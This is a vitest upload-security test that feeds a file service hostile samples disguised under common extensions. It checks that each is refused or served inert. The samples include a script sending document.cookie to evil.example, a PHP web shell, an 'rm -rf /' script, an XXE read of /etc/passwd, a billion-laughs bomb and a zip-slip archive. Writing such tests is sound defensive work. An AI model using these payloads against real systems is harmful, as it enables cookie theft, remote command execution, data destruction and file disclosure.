import { buffer } from 'node:stream/consumers';
import { type FileKind, fileFormats } from '@homeward/contract/files';
import { beforeAll, expect, it } from 'vitest';
import { ZipFile } from 'yazl';
import type { Person } from '../people.ts';
import { useTestServer } from '../server.ts';
import { open, upload } from '../uploads.ts';

const server = useTestServer({
  env: { REQUESTS_PER_MINUTE: '1000000' },
});
let as: Person;

beforeAll(async () => {
  as = await server.current.createPerson({ role: 'Family' });
});

/** What each sample claims to be. */
const clothes: [string, string, FileKind][] = [
  ['png', 'image/png', 'image'],
  ['gif', 'image/gif', 'image'],
  ['svg', 'image/svg+xml', 'image'],
  ['heic', 'image/heic', 'image'],
  ['mp4', 'video/mp4', 'video'],
  ['mp3', 'audio/mpeg', 'audio'],
  ['pdf', 'application/pdf', 'document'],
  ['doc', 'application/msword', 'document'],
  ['docx', fileFormats.docx.types[0], 'document'],
  ['rtf', 'application/rtf', 'document'],
  ['txt', 'text/plain', 'document'],
  ['csv', 'text/csv', 'document'],
];

const hex = (text: string) => Buffer.concat([Buffer.from(text, 'hex'), Buffer.alloc(300)]);
const zipOf = (...names: string[]) => {
  const zip = new ZipFile();
  for (const name of names) zip.addBuffer(Buffer.from('x'), name);
  zip.end();
  return buffer(zip.outputStream);
};
const page = '<html><script>fetch("https://evil.example/?"+document.cookie)</script></html>';
const bomb = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'bcdefg'
  .split('')
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdef'[at]};`.repeat(10)}">`)
  .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&g;</text></svg>`;

/**
 * What the samples are made of, and the clothes in which they are kept: text is kept as text, whatever language it
 * is in, since it is only ever served as plain text. A picture of a real format is kept with what is behind it cut off.
 */
const contents: [string, () => Promise<Buffer> | Buffer, string][] = [
  ['a Windows program', () => hex('4d5a90000300000004000000ffff0000'), ''],
  ['a Linux program', () => hex('7f454c4602010100'), ''],
  ['a Mac program', () => hex('cffaedfe0c000001'), ''],
  ['Java', () => hex('cafebabe00000034'), ''],
  ['WebAssembly', () => hex('0061736d01000000'), ''],
  ['a link of Windows', () => hex('4c0000000114020000000000c000000000000046'), ''],
  ['a cabinet', () => hex('4d534346'), ''],
  ['RAR', () => hex('526172211a0701'), ''],
  ['7-Zip', () => hex('377abcaf271c'), ''],
  ['gzip', () => hex('1f8b0800'), ''],
  ['an SQLite database', () => hex('53514c69746520666f726d6174203300'), ''],
  ['a Java archive', () => zipOf('META-INF/MANIFEST.MF', 'Evil.class'), ''],
  ['an Android package', () => zipOf('AndroidManifest.xml', 'classes.dex'), ''],
  ['a zip that walks up', () => zipOf('a/b.txt'), ''],
  ['Flash', () => hex('4357530a'), ''],
  ['a page', () => Buffer.from(page), 'txt csv'],
  ['a page behind GIF89a', () => Buffer.from(`GIF89a/*${page}*/=1;`), ''],
  [
    'a script behind the start of a JPEG',
    () => Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(page)]),
    '',
  ],
  [
    'a page with a BOM of UTF-16',
    () => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(page, 'utf16le')]),
    'txt csv',
  ],
  ['a shell script', () => Buffer.from('#!/bin/sh\nrm -rf /\n'), 'txt csv'],
  ['PHP', () => Buffer.from('<?php system($_GET["c"]); ?>'), 'txt csv'],
  [
    'a mail with a page in it',
    () => Buffer.from(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}`),
    'txt csv',
  ],
  ['a billion laughs', () => Buffer.from(bomb), 'txt csv'],
  [
    'XML that reads a file',
    () =>
      Buffer.from(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
      ),
    'txt csv',
  ],
  ['NULs', () => Buffer.alloc(1000), ''],
  ['nothing', () => Buffer.alloc(0), ''],
];

it('what each sample is in whichever clothes: refused, or kept as what it is and served so that it does nothing', async () => {
  const wrong: Record<string, unknown> = {};
  let samples = 0;
  for (const [what, make, keptAs] of contents) {
    const bytes = await make();
    for (const [ending, type, kind] of clothes) {
      samples += 1;
      const where = `${what} as ${ending}`;
      const answer = await upload(server.current, as, kind, { name: `a.${ending}`, type, bytes });
      const isKept = answer.status === 201;
      if (isKept !== keptAs.split(' ').includes(ending)) wrong[where] = answer.status;
      if (!isKept && ![400, 415, 422].includes(answer.status)) wrong[where] = answer.status;
      if (!isKept) continue;
      const back = await open(server.current, answer.body.url);
      const headers = Object.fromEntries(back.headers);
      const isInert =
        /^text\/(plain|csv)\b/.test(headers['content-type'] ?? '') &&
        headers['x-content-type-options'] === 'nosniff' &&
        /\bsandbox\b/.test(headers['content-security-policy'] ?? '') &&
        headers['cross-origin-resource-policy'] === 'same-origin';
      if (!isInert) wrong[`${where}, served`] = headers;
    }
  }
  expect(wrong).toEqual({});
  expect(samples).toBeGreaterThan(120);
}, 300_000);
